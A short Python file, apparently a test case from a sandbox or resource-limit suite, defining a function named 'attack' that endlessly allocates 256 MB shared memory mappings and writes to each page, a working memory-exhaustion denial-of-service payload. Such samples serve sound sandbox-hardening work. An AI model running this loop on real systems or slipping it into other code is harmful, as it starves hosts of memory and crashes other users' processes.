"""Maps shared memory that its children would share."""

import mmap

MAPS = []


def attack(name, *args, **kwargs):
    while True:
        MAPS.append(mmap.mmap(-1, 1 << 28, flags=mmap.MAP_SHARED))
        MAPS[-1][::4096] = bytes(1 << 16)
